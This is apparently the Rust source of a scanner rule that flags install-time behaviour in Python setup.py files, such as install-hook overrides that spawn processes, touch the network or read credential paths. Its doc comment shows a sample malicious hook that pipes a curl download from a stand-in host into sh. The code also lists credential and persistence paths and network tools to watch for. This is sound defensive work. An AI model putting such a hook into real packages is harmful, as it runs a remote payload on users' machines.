//! # SW-PY-002: setup.py install-time behavior
//!
//! **What it does.** Looks at `setup.py`, which pip runs to build an
//! sdist. It reports `cmdclass` overrides of `install`, `develop`,
//! `egg_info`, `build_py`, `bdist_wheel` and their kin whose code
//! starts processes (other than compilers and build tools), downloads,
//! runs `exec`/`eval`, reads credentials or writes into the home
//! directory or system locations; and, as a weaker signal, a `setup.py`
//! that talks to the network at all (`medium`), or sends data out or
//! talks to the network and also starts a program other than a build tool
//! (`high`). An `install`, `develop` or `egg_info` override that starts a
//! program other than a build tool, or does two of these things, is
//! `critical`, as is one that sends data over the network.
//!
//! **Why is this bad.** A custom `install` command is the classic way to
//! run a payload the moment someone types `pip install`: the code sits
//! in a method no reader expects to matter, and it runs with the user's
//! rights before any of the package is imported.
//!
//! **Example.**
//!
//! ```python
//! class PostInstall(install):
//!     def run(self):
//!         install.run(self)
//!         os.system("curl -s https://payload.example.test/x | sh")
//!
//! setup(name="pkg", cmdclass={"install": PostInstall})
//! ```
//!
//! **False positives.** Overrides that run a compiler, `cmake`, `git`
//! or `npm` to build assets are only noted (`info`). A `setup.py` that downloads a
//! build dependency is `medium` on its own and blocks only together with
//! other findings.



use super::{Context, Emit, Rule, is_network, is_spawn};
use crate::lang::Call;
use crate::model::{Severity, Stage};
use crate::guarded::Guarded;

pub(crate) static RULE: Rule = Rule {
    id: "SW-PY-002",
    title: "setup.py install-time behavior",
    source: include_str!("py002_setup_install_hooks.rs"),
    check,
};

/// `def name(` at the top level of a file.
pub(crate) static TOP_LEVEL_DEF: Guarded = Guarded::new(
    &["def"],
    r"(?m)^def(?-u:\s)+((?-u:\w)+)(?-u:\s)*\(",
);

/// The calls inside the top-level functions of `setup.py` that `calls`
/// reach (an override whose `run` calls `send_beacon()` defined above it).
fn local_function_calls<'f>(text: &str, lines: &[&str], facts: &'f crate::lang::Facts, calls: &[&Call]) -> Vec<&'f Call> {
    let functions: Vec<(&str, u32, u32)> = TOP_LEVEL_DEF
        .captures_iter(text)
        .filter_map(|caps| {
            let (whole, name) = (caps.get(0)?, caps.get(1)?);
            let start = crate::lang::lexical::line_of(text.as_bytes(), whole.start());
            Some((name.as_str(), start, class_end(lines, start)))
        })
        .collect();
    let mut wanted: Vec<&str> = calls.iter().map(|c| c.callee.as_str()).collect();
    let mut visited: Vec<&str> = Vec::new();
    let mut reached = Vec::new();
    while let Some(callee) = wanted.pop() {
        let Some(&(name, start, end)) = functions.iter().find(|(n, ..)| *n == callee) else {
            continue;
        };
        if visited.contains(&name) {
            continue;
        }
        visited.push(name);
        for call in facts.calls.iter().filter(|c| c.line > start && c.line <= end) {
            wanted.push(&call.callee);
            reached.push(call);
        }
    }
    reached
}

/// `class X(install):`, `class X(setuptools.command.install.install):`.
pub(crate) static COMMAND_CLASS: Guarded = Guarded::new(
    &["class"],
    r"(?m)^class(?-u:\s)+((?-u:\w)+)(?-u:\s)*\((?-u:\s)*(?:[0-9A-Za-z_.]*\.)?(_?install|develop|egg_info|build_py|bdist_wheel|bdist_egg|install_lib|install_scripts|install_egg_info|build|sdist|orig\.install)(?-u:\s)*[,)]",
);

/// Commands that run on the machine of whoever installs the sdist.
const INSTALL_HOOKS: &[&str] = &["install", "_install", "orig.install", "develop", "egg_info"];

/// Programs a build runs as a matter of course.
const BUILD_TOOLS: &[&str] = &[
    "git", "gcc", "g++", "cc", "c++", "clang", "cmake", "make", "ninja", "pkg-config", "cython", "swig", "nvcc",
    "npm", "yarn", "jlpm", "node", "pnpm", "cargo", "rustc", "go", "meson", "protoc", "msbuild", "bazel",
    "autoreconf", "./configure", "python", "python3", "pip",
];

/// Paths a build has no business writing or reading.
const SENSITIVE: &[&str] = &[
    ".ssh", ".aws", ".bashrc", ".zshrc", ".profile", "/etc/", "crontab", "LaunchAgents", "autostart", ".config/",
    "AppData", "Startup", ".npmrc", ".pypirc", ".git-credentials", "id_rsa", ".docker/config", ".kube",
];

fn is_exec(callee: &str) -> bool {
    matches!(callee, "exec" | "eval" | "execfile" | "builtins.exec" | "builtins.eval")
}

/// Whether a spawn runs only a build tool.
fn build_tool_only(call: &Call) -> bool {
    let Some(first) = call.strings.first() else {
        return false;
    };
    let program = first.split_whitespace().next().unwrap_or("");
    let program = program.rsplit('/').next().unwrap_or(program);
    BUILD_TOOLS.contains(&program)
        || call.names.iter().any(|n| n == "sys.executable")
            && !call.strings.iter().any(|s| {
                // `python -c …`, a URL, or a script of the sdist's own
                // other than setup.py: not a build step.
                let s = s.trim_matches(|c: char| c == '"' || c == '\'' || c.is_whitespace());
                s.contains("http") || s == "-c" || s.ends_with(".py") && !s.ends_with("setup.py")
            })
}

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    let Some(file) = cx.files.iter().find(|f| f.path == "setup.py") else {
        return;
    };
    let (Some(text), Some(facts)) = (&file.text, &file.facts) else {
        return;
    };
    let lines: Vec<&str> = text.lines().collect();
    // cmdclass overrides and what their bodies do.
    let mut reported = false;
    if text.contains("cmdclass") {
        for caps in COMMAND_CLASS.captures_iter(text) {
            let (Some(whole), Some(name), Some(base)) = (caps.get(0), caps.get(1), caps.get(2)) else {
                continue;
            };
            let start = crate::lang::lexical::line_of(text.as_bytes(), whole.start());
            let end = class_end(&lines, start);
            let used = text[whole.end()..].contains(name.as_str());
            if !used {
                continue;
            }
            let body = |c: &&Call| c.line > start && c.line <= end;
            let body_text = lines
                .get(start as usize..end as usize)
                .map(|l| l.join("\n"))
                .unwrap_or_default();
            let mut calls: Vec<&Call> = facts.calls.iter().filter(body).collect();
            // A helper module of the sdist the override calls into
            // (`from pre_install import run` … `run()`): its calls count.
            let helpers: Vec<&Call> = facts
                .imports
                .iter()
                .filter(|imp| {
                    let last = imp.name.rsplit('.').next().unwrap_or(&imp.name);
                    body_text.contains(&format!("{last}(")) || body_text.contains(&format!("{last}."))
                })
                .filter_map(|imp| imp.name.split('.').next())
                .filter_map(|head| {
                    cx.files
                        .iter()
                        .find(|f| f.path == format!("{head}.py") || f.path == format!("{head}/__init__.py"))
                })
                .filter_map(|f| f.facts.as_ref())
                .flat_map(|f| f.calls.iter())
                .collect();
            calls.extend(helpers);
            calls.extend(local_function_calls(text, &lines, facts, &calls));
            calls.retain(|c| !super::py003_intree_backend::is_chained(&c.callee));
            let spawn = calls
                .iter()
                .find(|c| is_spawn(&c.callee) && !build_tool_only(c));
            let network = calls.iter().find(|c| talks(c));
            let exec = calls.iter().find(|c| is_exec(&c.callee));
            let sensitive = SENSITIVE.iter().find(|s| body_text.contains(**s));
            let mut what = Vec::new();
            if let Some(c) = spawn {
                what.push(format!("starts a process (`{}`)", c.callee));
            }
            if let Some(c) = network {
                what.push(format!("talks to the network (`{}`)", c.callee));
                if is_send(c) {
                    what.push("sends data out".to_owned());
                }
            } else if let Some(c) = calls.iter().find(|c| is_spawn(&c.callee) && network_command(c)) {
                what.push(format!("talks to the network through `{}`", c.callee));
            }
            if let Some(c) = exec {
                what.push(format!("runs `{}`", c.callee));
            }
            if let Some(s) = sensitive {
                what.push(format!("touches `{s}`"));
            }
            let severity = match what.len() {
                0 => {
                    let builds = calls.iter().any(|c| is_spawn(&c.callee));
                    if builds { Severity::Info } else { continue }
                }
                // An install hook that runs a program of its own is the
                // payload pattern; one other behavior alone is high.
                1 if spawn.is_some() && INSTALL_HOOKS.contains(&base.as_str()) => Severity::Critical,
                1 => Severity::High,
                _ => Severity::Critical,
            };
            let message = if what.is_empty() {
                format!("the `{base}` override `{}` runs a build tool", name.as_str(), base = base.as_str())
            } else {
                format!(
                    "the `{base}` override `{}` {}",
                    name.as_str(),
                    what.join(", "),
                    base = base.as_str()
                )
            };
            out.finding(severity, Stage::Install, &file.path, Some(start), message);
            reported = true;
        }
    }
    // setup.py talking to the network at all, and running what it
    // fetched.
    if reported {
        return;
    }
    let direct = |c: &&Call| !super::py003_intree_backend::is_chained(&c.callee);
    let network = facts
        .calls
        .iter()
        .filter(direct)
        .find(|c| talks(c) || is_spawn(&c.callee) && network_command(c));
    let Some(network) = network else { return };
    let runs = facts.calls.iter().filter(direct).find(|c| {
        c.line != network.line && is_spawn(&c.callee) && !build_tool_only(c) && !network_command(c)
    });
    let sends = facts
        .calls
        .iter()
        .filter(direct)
        .find(|c| talks(c) && is_send(c) || is_spawn(&c.callee) && network_command(c) && uploads(c));
    let (severity, message) = match (runs, sends) {
        (Some(run), _) => (
            Severity::High,
            format!(
                "setup.py talks to the network (`{}`, line {}) and starts `{}` while the package is built",
                network.callee, network.line, run.callee
            ),
        ),
        (None, Some(send)) => (
            Severity::High,
            format!(
                "setup.py sends data over the network while the package is built (`{}`)",
                send.callee
            ),
        ),
        (None, None) => (
            Severity::Medium,
            format!("setup.py talks to the network while the package is built (`{}`)", network.callee),
        ),
    };
    out.finding(severity, Stage::Install, &file.path, Some(network.line), message);
}
/// Whether a call talks to the network: the network callees, raw socket
/// sends, and DNS lookups of a name built from variables.
fn talks(call: &Call) -> bool {
    let last = call.callee.rsplit('.').next().unwrap_or("");
    is_network(&call.callee)
        || call.callee.starts_with("socket.") && matches!(last, "send" | "sendall" | "sendto" | "connect")
        || matches!(call.callee.as_str(), "socket.gethostbyname" | "socket.getaddrinfo") && call.strings.is_empty()
}

/// Whether a network call sends data rather than fetching a fixed URL: a
/// POST or PUT, a `data`/`json`/`params` argument, a raw socket send, a
/// DNS lookup of a built name, or a URL built from variables.
fn is_send(call: &Call) -> bool {
    let last = call.callee.rsplit('.').next().unwrap_or("");
    matches!(last, "post" | "put" | "patch" | "send" | "sendall" | "sendto" | "gethostbyname" | "getaddrinfo")
        || call
            .keywords
            .iter()
            .any(|(k, _)| matches!(k.as_str(), "data" | "json" | "params" | "files"))
        || call.strings.iter().any(|s| s.eq_ignore_ascii_case("post"))
        || !call.inner_calls.is_empty() && call.strings.iter().any(|s| s.contains("://"))
}

/// Whether a spawned `curl`/`wget` uploads (`-F`, `-d`, `--data`, `-T`,
/// `--post-file`).
fn uploads(call: &Call) -> bool {
    call.strings.iter().any(|s| {
        s.split_whitespace().any(|w| {
            matches!(w, "-F" | "-d" | "-T" | "--data" | "--data-binary" | "--form" | "--upload-file")
                || w.starts_with("--post-")
                || w.starts_with("--data=")
        })
    })
}

/// Whether a spawned command fetches or sends (`curl`, `wget`, a URL).
/// Whether a spawn's command line reaches the network (`curl`, `wget`,
/// `nc`, a URL, or a DNS lookup with `nslookup`/`dig`).
pub(crate) fn network_command(call: &Call) -> bool {
    call.strings.iter().any(|s| {
        let l = s.to_ascii_lowercase();
        ["curl ", "wget ", "http://", "https://", "invoke-webrequest", "nc ", "ncat ", "ftp://", "nslookup ", "dig "]
            .iter()
            .any(|t| l.contains(t))
            || matches!(l.as_str(), "curl" | "wget" | "nslookup" | "dig")
    })
}

/// The last line (1-based) of the class starting at `start`: the line
/// before the next line indented no deeper than it.
fn class_end(lines: &[&str], start: u32) -> u32 {
    let mut end = start;
    for (i, line) in lines.iter().enumerate().skip(start as usize) {
        if line.trim().is_empty() || line.trim_start().starts_with('#') {
            continue;
        }
        if !line.starts_with([' ', '\t']) {
            break;
        }
        end = i as u32 + 1;
    }
    end
}
